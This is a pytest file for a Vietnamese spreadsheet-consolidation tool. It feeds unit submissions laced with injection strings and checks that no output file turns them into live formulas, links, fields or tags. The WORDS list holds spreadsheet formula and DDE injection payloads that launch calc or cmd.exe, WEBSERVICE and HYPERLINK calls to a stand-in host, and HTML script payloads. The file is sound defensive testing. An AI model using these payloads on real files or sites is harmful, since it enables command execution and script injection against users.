"""What units write never becomes a formula, a link, a field or a tag in anything the program makes."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
import test_consolidate as office
import xlsxwriter
from typer.testing import CliRunner

from qn_xl import cli
from qn_xl import consolidate as module
from qn_xl.demo import PERIOD
from qn_xl.excel.setup import create
from qn_xl.outputs import libreoffice
from qn_xl.rules.units import default_units
from qn_xl.tables import default_tables, sealed
from qn_xl.workspace import Workspace

MARK = "7331"  # in each of them, and in nothing else
WORDS = (
    f"={MARK}+1",
    f'=HYPERLINK("http://{MARK}.example/?"&A1;"bấm vào đây")',
    f"+{MARK}+cmd|' /C calc'!A0",
    f"-{MARK}+3+cmd|' /C calc'!A0",
    f"@SUM({MARK})*cmd|' /C calc'!A0",
    f"\t={MARK}",
    f"\r\n={MARK}",
    f"\uff1d{MARK}",
    f"a;={MARK}",
    f"a\t={MARK}",
    f"{{={MARK}}}",
    f"=WEBSERVICE(\"http://{MARK}.example\")",
    f"http://{MARK}.example/a",
    f"\\\\{MARK}.example\\chia-se\\a.xlsx",
    f"<script>alert({MARK})</script>",
    f"<img src=x onerror=alert({MARK})>",
    f"{{{{={MARK}}}}} {{{{138.done}}}}",
    f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {MARK}"',
)
HEAD = (
    "TT", "Mã nhiệm vụ", "Nội dung nhiệm vụ", "Đơn vị chủ trì", "Đơn vị phối hợp", "Thời hạn hoàn thành", "Trạng thái",
    "Ngày hoàn thành", "Kết quả thực hiện", "Sản phẩm", "Khó khăn, vướng mắc", "Ghi chú", "Cột lạ",
)  # fmt: skip


def send(path: Path, title: str, words: tuple[str, ...] = WORDS) -> None:
    """Write a file with each of the words in each of its columns, one row a word and column, and as headings."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet(title)
        sheet.write_string(0, 0, WORDS[0])
        sheet.write_string(1, 0, "Kế hoạch số 138/KH-UBND")
        for column, heading in enumerate((*HEAD, WORDS[0])):
            sheet.write_string(3, column, heading)
        row = 4
        for number, word in enumerate(words):
            for column in range(len(HEAD)):
                task = f"Việc thứ {row} của đơn vị"
                usual = [str(row), "", task, "Sở Y tế", "", "31/12/2025", "Đang thực hiện", "", "kết quả", *[""] * 4]
                usual[column] = word if column != 2 else f"{word} {number}"
                for place, text in enumerate(usual):
                    sheet.write_string(row, place, text)
                row += 1


def run(*words: object, codes: tuple[int, ...] = (0, 20)) -> str:
    result = CliRunner().invoke(cli.app, [str(word) for word in words])
    assert result.exit_code in codes, (words, result.output, result.exception)
    return result.output


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of a workspace with everything made out of such an inbox."""
    root = tmp_path_factory.mktemp("doc") / "TienDo"
    units = tuple(unit for unit in default_units() if unit.id in ("SYT", "STC", "SNV", "SXD"))
    create(root, sealed(replace(default_tables(), units=units)))
    workspace = Workspace(root)
    inbox = workspace.inbox(PERIOD)
    send(inbox / "Sở Y tế.xlsx", f"={MARK}+1")
    send(inbox / f"={MARK}" / f"@Sở Tài chính ={MARK}.xlsx", f"@{MARK}", WORDS[:4])
    send(inbox / f"-{MARK}+1 Sở Nội vụ.xlsx", "a", WORDS[:4])
    (inbox / f"+{MARK} Sở Xây dựng.csv").write_text(
        "TT;Nhiệm vụ;Đơn vị\n" + "\n".join(f'{at};"{word}";"{word}"' for at, word in enumerate(WORDS)), "utf-8"
    )
    (inbox / f"={MARK}.pdf").write_bytes(b"%PDF-1.4")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, "read_all", office.read_here)
        patch.setattr(libreoffice, "program", lambda: None)
        run("consolidate", root, "--period", PERIOD, "--returns")
        send(inbox / "Sở Y tế (lần 2).xlsx", "b", WORDS[:1])
        run("consolidate", root, "--period", PERIOD)
        run("forms", root, "--period", PERIOD)
        run("tables", root)
        run("document", root)
        for name in ("ba-lop", "chinh-phu", "day-du"):
            run("fill", name, "-o", root / f"{name}.xlsx", root)
        run("preview", inbox, "--html", root / "xem.html")
    return root


def outputs(root: Path, *kinds: str) -> list[Path]:
    return [path for path in sorted(root.rglob("*")) if path.suffix in kinds and "don-vi" not in path.parts]


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


CODE = ("f", "definedName", "formula", "formula1", "formula2", "calculatedColumnFormula", "w:instrText")


def test_office_files__no_formula_field_or_link_has_it(made: Path) -> None:
    seen = 0
    for path in outputs(made, ".xlsx", ".xlsm", ".docx", ".bak"):
        for name, text in parts(path).items():
            where = f"{path.relative_to(made)} {name}"
            assert not re.search(r"externalLink|oleObject|embeddings|activeX|ddeLink", name), where
            for tag in CODE:
                found = [code for code in re.findall(rf"<{tag}\b[^>]*>([^<]*)</{tag}>", text) if MARK in code]
                assert found == [], where
            assert not re.search(rf"<w:fldSimple[^>]*{MARK}", text), where
            assert not re.search(rf"<(?:odd|even|first)(?:Header|Footer)>[^<]*{MARK}", text), where
            for target in re.findall(r'Target="([^"]*)"', text) if name.endswith(".rels") else ():
                assert MARK not in target or target.startswith(("../", "./")), (where, target)
            seen += text.count(MARK)
    assert seen > 500, "the words are there, as text"
    kinds = {path.parent.name if path.suffix == ".xlsx" else path.suffix for path in outputs(made, ".xlsx", ".docx")}
    assert {"2025-9T", "bao-cao", "bieu-mau", "SYT", "TienDo", ".docx"} <= kinds
    assert any(path.name.startswith("danh-dau") for path in outputs(made, ".xlsx"))


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv__no_cell_begins_as_a_formula__whatever_separates_them(made: Path, separator: str) -> None:
    seen = 0
    for path in outputs(made, ".csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=separator):
            risky = [cell for cell in row if re.match(r"[=+\-@\t\r\n\uff1d]", cell) and MARK in cell]
            assert risky == [], path.name
            seen += sum(MARK in cell for cell in row)
    assert seen > 20


def test_html_and_letters__no_tag_or_script_has_it(made: Path) -> None:
    pages = outputs(made, ".html", ".htm", ".txt")
    assert any(path.suffix == ".html" and MARK in path.read_text("utf-8") for path in pages)
    for path in pages:
        assert re.findall(rf"<[^<>]*{MARK}[^<>]*>", path.read_text("utf-8")) == [], path.name
